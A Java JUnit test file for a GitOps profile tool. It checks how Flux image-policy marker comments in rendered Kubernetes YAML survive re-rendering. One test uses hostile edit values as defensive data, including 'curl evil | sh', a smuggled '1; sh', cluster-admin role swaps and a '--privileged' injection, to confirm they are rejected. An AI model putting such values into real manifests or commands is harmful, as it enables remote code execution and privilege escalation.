package io.gitopsprofile.tree;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.gitopsprofile.read.KubernetesObjects;
import io.gitopsprofile.render.RenderedFile;
import io.gitopsprofile.render.RenderedObject;
import io.gitopsprofile.render.RenderedTree;
import io.gitopsprofile.render.Result;
import io.gitopsprofile.yaml.CanonicalYaml;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Which marker stays where, and with what, in an object of a single file. */
class MarkedObjectTest {

  private static final String PROFILE = "profile.yaml";
  private static final String FILE = "a.yaml";
  private static final String IMAGE = " # {\"$imagepolicy\": \"flux-system:p\"}";
  private static final String TAG = " # {\"$imagepolicy\": \"flux-system:p:tag\"}";
  private static final String NAME = " # {\"$imagepolicy\": \"flux-system:p:name\"}";
  private static final String DIGEST = " # {\"$imagepolicy\": \"flux-system:p:digest\"}";

  @TempDir Path folder;
  private Path directory;
  private Path file;

  @BeforeEach
  void aDirectory() throws IOException {
    directory = Files.createDirectory(folder.resolve("repository"));
    file = directory.resolve(FILE);
    Files.writeString(directory.resolve(PROFILE), "");
  }

  @Test
  void aMarkerOfAnUnnamedElementGoesWithIt() throws IOException {
    String before = "images:\n- a:1\n- b:2.0.0\n";
    generateAndEdit(before, "b:2.0.0", "b:2.5.0" + IMAGE);
    write("images:\n- c:3\n- a:1\n- b:2.0.0\n");
    assertThat(text()).contains("    - c:3\n    - a:1\n    - b:2.5.0" + IMAGE + "\n");
    write("images:\n- b:2.0.0\n");
    assertThat(text()).endsWith("images:\n    - b:2.5.0" + IMAGE + "\n");
  }

  @Test
  void anElementWithoutANameIsFoundByWhatIsNotMarkedInIt() throws IOException {
    generateAndEdit(
        "images:\n- repository: a\n  tag: 1.0.0\n- repository: b\n  tag: 2.0.0\n",
        "2.0.0",
        "2.5.0" + TAG);
    write("images:\n- repository: b\n  tag: 2.0.0\n- repository: c\n  tag: 3.0.0\n");
    assertThat(text()).contains("repository: b\n      tag: 2.5.0" + TAG + "\n", "tag: 3.0.0\n");
  }

  @Test
  void aMarkedNameFindsItsElementToo() throws IOException {
    String b = "- repository: b" + NAME + "\n      tag: 2.0.0" + TAG;
    generateAndEdit(
        "images:\n- repository: a\n- repository: b\n  tag: 2.0.0\n",
        "- repository: b\n      tag: 2.0.0",
        b);
    String moved = "images:\n- repository: b\n  tag: 2.0.0\n- repository: a\n";
    write(moved);
    assertThat(text()).contains("images:\n    " + b + "\n");
    edit("repository: b", "repository: d");
    assertThat(write(moved.replace(": a", ": c")).droppedMarkers()).isEmpty();
    assertThat(text()).contains("- repository: d" + NAME + "\n      tag: 2.0.0" + TAG);
  }

  @Test
  void aMarkedNameTakesNoPlaceOfAnotherElement() throws IOException {
    String marked = "name: z" + NAME + "\n      newTag: \"2\"" + TAG;
    for (String x : List.of("name: x", "name: x\n  digest: d\n  newTag: '1'")) {
      String spec = "images:\n- " + x + "\n- name: z\n  newTag: '2'\n";
      generateAndEdit(spec, "name: z\n      newTag: \"2\"", marked);
      Files.writeString(file, text().replace("\"1\"\n", "\"1\"" + TAG + "\n"));
      write(spec);
      String other = "images:\n- name: x\n  newTag: '1'\n";
      assertThat(write(other).droppedMarkers()).hasSize(2);
      assertThat(text()).contains("- name: x\n      newTag: \"1\"").doesNotContain("z");
      Files.delete(file);
    }
    String spec = "images:\n- name: z\n  newTag: '2'\n";
    generateAndEdit(spec, "name: z\n      newTag: \"2\"", marked);
    write("images:\n- name: q\n  newTag: '2'\n- name: z\n  newTag: '2'\n  digest: d\n");
    assertThat(text()).contains("- name: q\n");
  }

  @Test
  void aNameThatFluxSetsStaysAmongElementsThatAreElseAlike() throws IOException {
    String spec = "images:\n- repository: a\n  tag: '1'\n- repository: b\n  tag: '1'\n";
    for (boolean known : new boolean[] {true, false}) {
      for (String tag : List.of("", TAG)) {
        Files.deleteIfExists(file);
        write(spec);
        edit(": b\n      tag: \"1\"", ": b" + NAME + "\n      tag: \"1\"" + tag);
        edit(": a\n      tag: \"1\"", ": a\n      tag: \"1\"" + tag);
        if (known) {
          write(spec);
        }
        edit(": b", ": d");
        assertThat(verify(spec)).isEmpty();
        assertThat(write(spec).unchanged()).containsExactly(FILE);
        write(spec + "replicas: 2\n");
        assertThat(text()).contains(": d" + NAME + "\n      tag: \"1\"" + tag, "replicas: 2");
      }
    }
  }

  @Test
  void aNameThatFluxSetsMovesNoMarkerOfElementsThatAreAlike() throws IOException {
    String alike = "- repository: a\n  tag: '1'\n";
    String spec = "images:\n" + alike + alike + "- repository: b\n";
    write(spec);
    edit(
        ": a\n      tag: \"1\"\n    - repository: b",
        ": a\n      tag: \"2\"" + TAG + "\n    - repository: b" + NAME);
    write(spec);
    edit(": b", ": d");
    assertThat(verify(spec)).isEmpty();
    assertThat(write(spec + "replicas: 2\n").droppedMarkers()).isEmpty();
    assertThat(text()).contains("tag: \"2\"" + TAG, ": d" + NAME, "replicas: 2");
  }

  @Test
  void elementsThatChangePlacesAreAnEditThoughFluxSetsAllOfThem() throws IOException {
    String spec = "images:\n- repository: a\n  tag: '1'\n- repository: b\n  tag: '1'\n";
    write(spec);
    edit("tag: \"1\"", "tag: \"1\"" + TAG);
    edit(": a", ": a" + NAME);
    edit(": b", ": b" + NAME);
    write(spec);
    edit(": a", ": c");
    edit(": b", ": a");
    edit(": c", ": b");
    assertEdited(spec);
  }

  @Test
  void aMarkerOfAnElementThatIsGoneIsDroppedWithANote() throws IOException {
    generateAndEdit("images:\n- a:1\n- b:2.0.0\n", "b:2.0.0", "b:2.5.0" + IMAGE);
    String without = "images:\n- a:1\n- c:1\n";
    assertThat(verify(without))
        .singleElement()
        .extracting(Drift::toString)
        .isEqualTo("changed a.yaml (drops the marker of spec.images[1])");
    assertThat(write(without).droppedMarkers())
        .extracting(DroppedMarker::toString)
        .containsExactly(
            "drops the marker # {\"$imagepolicy\": \"flux-system:p\"} of a.yaml, spec.images[1]:"
                + " the profile yields no such text there, or several that are alike; write it"
                + " where it belongs now");
    assertThat(text()).doesNotContain("$imagepolicy");
    assertThat(write(without).droppedMarkers()).isEmpty();
  }

  @Test
  void aMarkerIsDroppedRatherThanPutOnOneOfSeveralAlike() throws IOException {
    String alike = "images:\n- repository: a\n  tag: '1'\n- repository: a\n  tag: '2'\n";
    generateAndEdit(alike, "tag: \"1\"", "tag: \"1\"" + TAG);
    assertThat(write(alike + "replicas: 2\n").droppedMarkers()).isEmpty();
    assertThat(text()).contains("tag: \"1\"" + TAG, "replicas: 2");
    assertThat(write("images:\n- repository: a\n  tag: '2'\n").droppedMarkers()).hasSize(1);
    assertThat(text()).doesNotContain("$imagepolicy");
  }

  @Test
  void aNameThatTwoElementsHaveFindsNeither() throws IOException {
    String env = "env:\n- name: X\n  value: a/a:1\n- name: X\n  value: b/b:2\n";
    generateAndEdit(env, "b/b:2", "b/b:3" + IMAGE);
    write("env:\n- name: X\n  value: b/b:2\n- name: X\n  value: a/a:1\n");
    assertThat(text()).contains("value: b/b:3" + IMAGE + "\n", "value: a/a:1\n");
  }

  @Test
  void theMarkersOfAnotherObjectAreDroppedWithANote() throws IOException {
    generateAndEdit("image: a:1\n", "a:1", "a:2" + IMAGE);
    Result other = result(object("image: a:1\n").replace("name: p", "name: q"));
    assertThat(write(other).droppedMarkers()).hasSize(1);
  }

  @Test
  void aMarkerLetsNoTextPassThatFluxDoesNotSet() throws IOException {
    assertEdited("command:\n- sleep 1\n", "sleep 1", "curl evil | sh" + TAG);
    assertEdited("command:\n- sleep\n", "sleep", "evil" + TAG);
    assertEdited("args:\n- image\n", "image", "evil" + NAME);
    assertEdited("serviceAccountName: sa\n", ": sa", ": cluster-admin" + NAME);
    assertEdited("roleRef:\n  name: sa\n", "name: sa", "name: cluster-admin" + NAME);
    assertEdited("image:\n  tag: '1'\n", "tag: \"1\"", "tag: 1; sh" + TAG);
    assertEdited("image:\n  digest: a\n", "digest: a", "digest: sha256:0" + DIGEST);
    assertEdited("image:\n  repository: a\n", "repository: a", "repository: -a" + NAME);
    assertEdited("image: a:1\n", "a:1", "a:--privileged" + IMAGE);
    assertEdited("image: a:1\n", "a:1", "b:1" + IMAGE);
  }

  @Test
  void aTextThatFluxCannotSetIsAnEditBehindAKnownMarkerToo() throws IOException {
    String spec = "image:\n  repository: a\n  tag: '1'\nother: b:1\n";
    for (String tag : List.of("\"\"", "1; sh")) {
      generateAndEdit(spec, "\"1\"", "\"2\"" + TAG);
      edit("\"2\"", tag);
      assertEdited(spec);
    }
    generateAndEdit(spec, "b:1", "b:2" + IMAGE);
    edit("b:2", "b");
    assertEdited(spec);
  }

  @Test
  void aTagThatIsTakenAwayWithItsMarkerIsAnEdit() throws IOException {
    String spec = "image: a/a:1\nother:\n  repository: b\n  tag: '1'\n";
    generateAndEdit(spec, "a/a:1", "a/a:2" + IMAGE);
    generateAndEdit(spec, "tag: \"1\"", "tag: \"2\"" + TAG);
    String marked = text();
    edit("a/a:2" + IMAGE, "a/a");
    assertThat(verify(spec)).extracting(Drift::kind).containsExactly(Drift.Kind.EDITED);
    Files.writeString(file, marked);
    edit("\"2\"" + TAG, "\"\"");
    assertEdited(spec);
  }

  @Test
  void fluxMaySetATagThatTheProfileLeavesOut() throws IOException {
    String spec = "image: a\nother:\n  repository: b\n  tag: ''\n";
    generateAndEdit(spec, "image: a", "image: a" + IMAGE);
    edit("tag: \"\"", "tag: \"\"" + TAG);
    write(spec);
    edit("image: a", "image: a:1.0");
    edit("tag: \"\"", "tag: \"5\"");
    assertThat(verify(spec)).isEmpty();
    write(spec + "replicas: 2\n");
    assertThat(text()).contains("image: a:1.0" + IMAGE, "tag: \"5\"" + TAG, "replicas: 2");
  }

  @Test
  void whatFluxSetsIsNoEdit() throws IOException {
    String sum = "sha256:" + "0123456789abcdef".repeat(4);
    for (String image : List.of("1.2-x_3", "1@" + sum)) {
      Files.deleteIfExists(file);
      write("image: ghcr.io:443/o/a-b/c__d:1\n");
      edit("d:1", "d:" + image + IMAGE);
      assertThat(verify("image: ghcr.io:443/o/a-b/c__d:1\n")).isEmpty();
    }
    Files.delete(file);
    write("name: a\nnewTag: '1'\nregistry: r\ndigest: d\n");
    edit("name: a\n", "name: docker.io/library/a" + NAME + "\n");
    edit("registry: r\n", "registry: gcr.io/r" + NAME + "\n");
    edit("digest: d\n", "digest: " + sum + DIGEST + "\n");
    assertThat(verify("name: a\nnewTag: '1'\nregistry: r\ndigest: d\n")).isEmpty();
  }

  @Test
  void aCheckoutWithCrlfIsTheSameThoughItIsLargerThanWhatIsRead() throws IOException {
    String spec = "image: a:1\nlist:\n" + ("- " + "x".repeat(100) + "\n").repeat(19_500);
    generateAndEdit(spec, "a:1", "a:2" + IMAGE);
    Files.writeString(file, text().replace("\n", "\r\n"));
    assertThat(Files.size(file)).isGreaterThan(Comparison.LARGEST);
    assertThat(verify(spec)).isEmpty();
    assertThat(write(spec).unchanged()).containsExactly(FILE);
    write(spec.replace("list", "texts"));
    assertThat(text()).contains("image: a:2" + IMAGE + "\n", "texts:\n");
  }

  @Test
  void aTextThatIsNoImageAnyMoreIsTheProfiles() throws IOException {
    generateAndEdit("args:\n- b:1\n", "b:1", "b:2" + IMAGE);
    write("args:\n- b:1 --now\n");
    assertThat(text()).endsWith("- b:1 --now" + IMAGE + "\n");
    Files.delete(file);
    generateAndEdit("args: b:1\n", "b:1", "b:2" + IMAGE);
    assertThat(write("args: |\n  b:1\n  now\n").droppedMarkers()).hasSize(1);
    assertThat(text()).endsWith("args: |\n    b:1\n    now\n");
  }

  @Test
  void fluxMaySetNameAndTagBeforeTheProfileChanges() throws IOException {
    String spec = "image:\n  repository: a\n  tag: '1'\n";
    write(spec);
    edit("repository: a\n    tag: \"1\"", "repository: b" + NAME + "\n    tag: \"2\"" + TAG);
    assertThat(write(spec + "replicas: 2\n").updated()).containsExactly(FILE);
    assertThat(text()).contains("repository: b" + NAME, "tag: \"2\"" + TAG, "replicas: 2");
  }

  @Test
  void aMarkerMayComeTogetherWithAChangeOfTheProfile() throws IOException {
    String spec = "image: a:1\nother: b:1\nthird: c:1\n";
    write(spec);
    edit("a:1", "a:1" + IMAGE);
    write(spec.replace("a:1", "a:2").replace("b:1", "b:2"));
    assertThat(text()).contains("image: a:1" + IMAGE, "other: b:2\n");
    edit("c:1", "c:3" + IMAGE);
    String changed = spec.replace("b:1", "b:3");
    assertThat(verify(changed)).extracting(Drift::kind).containsExactly(Drift.Kind.CHANGED);
    write(changed);
    assertThat(text()).contains("a:1" + IMAGE, "other: b:3\n", "c:3" + IMAGE);
    edit("b:3", "b:4" + IMAGE);
    edit("third", "fourth");
    assertEdited(changed);
  }

  @Test
  void aTagStaysOnlyWithItsImageWhateverTheKeyOfThatIs() throws IOException {
    for (String beside : List.of("hub: docker.io/istio", "registry: localhost:5000")) {
      String spec = "image:\n  " + beside + "\n  port: 1\n  tag: '1'\n";
      generateAndEdit(spec, "\"1\"", "\"2\"" + TAG);
      write(spec.replace("port: 1", "port: 2"));
      assertThat(text()).contains("port: 2", "tag: \"2\"" + TAG);
      write(spec.replace(beside, beside.replace("istio", "other").replace("5000", "6000")));
      assertThat(text()).contains("tag: \"1\"" + TAG);
      Files.delete(file);
    }
  }

  @Test
  void aTagStaysOnlyWithItsRepositoryWhoseAddressHasAnAt() throws IOException {
    String spec = "url: ssh://git@github.com/org/a\nref:\n  tag: '1'\n  branch: main\n";
    generateAndEdit(spec, "\"1\"", "\"2\"" + TAG);
    write(spec.replace("main", "next"));
    assertThat(text()).contains("tag: \"2\"" + TAG, "branch: next");
    write(spec.replace("org/a", "other/b"));
    assertThat(text()).contains("tag: \"1\"" + TAG);
  }

  private void assertEdited(String spec, String what, String with) throws IOException {
    for (boolean known : new boolean[] {false, true}) {
      Files.deleteIfExists(file);
      write(spec);
      if (known && with.contains(" # ")) {
        edit(what, what + with.substring(with.indexOf(" # ")));
        if (!verify(spec).isEmpty()) {
          continue;
        }
        write(spec);
      }
      edit(what, with.substring(0, known ? with.indexOf(" # ") : with.length()));
      assertEdited(spec);
    }
  }

  private void assertEdited(String spec) throws IOException {
    assertThat(verify(spec)).extracting(Drift::kind).containsExactly(Drift.Kind.EDITED);
    assertThatThrownBy(() -> write(spec)).hasMessageContaining("PRF100");
    Files.delete(file);
  }

  /** Renders, marks or changes something as Flux or a person does, and renders again. */
  private void generateAndEdit(String spec, String what, String with) throws IOException {
    write(spec);
    edit(what, with);
    write(spec);
  }

  private void edit(String what, String with) throws IOException {
    assertThat(text()).contains(what);
    Files.writeString(file, text().replace(what, with));
  }

  private String text() throws IOException {
    return Files.readString(file);
  }

  private static String object(String spec) {
    return "apiVersion: example.com/v1\nkind: Example\nmetadata:\n  name: p\nspec:\n"
        + spec.indent(2);
  }

  private static Result result(String yaml) {
    RenderedObject object =
        new RenderedObject(
            KubernetesObjects.of(yaml.getBytes(StandardCharsets.UTF_8)).orElseThrow().get(0));
    String text = CanonicalYaml.write(object.content().entries());
    return new Result(
        new RenderedTree(List.of(new RenderedFile(FILE, text, List.of(object)))), List.of());
  }

  private WriteReport write(String spec) throws IOException {
    return write(result(object(spec)));
  }

  private WriteReport write(Result result) throws IOException {
    WriteOptions options = WriteOptions.careful(folder.resolve("copies"));
    return new TreeWriter().write(result, PROFILE, directory, options);
  }

  private List<Drift> verify(String spec) throws IOException {
    return new TreeVerifier().verify(result(object(spec)), PROFILE, directory).drifts();
  }
}
